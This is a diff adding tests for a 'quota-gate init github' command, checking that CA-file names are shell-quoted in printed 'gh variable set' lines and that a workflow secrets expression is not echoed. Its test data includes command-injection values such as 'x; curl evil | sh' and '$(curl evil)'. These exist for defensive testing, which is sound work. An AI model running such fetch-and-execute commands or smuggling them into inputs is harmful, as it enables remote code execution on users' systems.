@@ -82,6 +82,26 @@ describe("quota-gate init github", () => {
     expect(stdout + stderr).not.toContain("a-secret-password");
   });
 
+  it.each([
+    ["/etc/my ca.pem", "'/etc/my ca.pem'"],
+    ["~/ca.pem", "~/ca.pem"],
+    ["x; curl evil | sh", "'x; curl evil | sh'"],
+    ["$(curl evil)", "'$(curl evil)'"],
+    ["it's", String.raw`'it'\''s'`],
+  ])("prints names from a file as words of commands to paste: %s", async (name, word) => {
+    const clouds = { production: { auth: { auth_url: LOGIN.OS_AUTH_URL }, cacert: name } };
+    await using repository = await openRepository({ "main.tf": "", "clouds.yaml": JSON.stringify({ clouds }) });
+    const { stderr } = await repository.init("github --print --cloud production");
+    expect(stderr).toContain(`\ngh variable set OS_CA < ${word}\n`);
+  });
+
+  it("leaves a region to the user that a workflow would expand", async () => {
+    await using repository = await openRepository({ "main.tf": "" });
+    const { stdout } = await repository.init("github --print", { ...LOGIN, OS_REGION_NAME: `$\{{ secrets.OTHER }}` });
+    expect(stdout).toContain(`${MARK}: OS_REGION_NAME`);
+    expect(stdout).not.toContain("secrets.OTHER");
+  });
+
   it.each<[what: string, env: Record<string, string>]>([
     ["a password", { ...LOGIN, OS_USERNAME: "me", OS_PASSWORD: "a-secret-password" }],
     ["the secret of an application credential", { ...LOGIN, OS_APPLICATION_CREDENTIAL_SECRET: "a-secret-password" }],
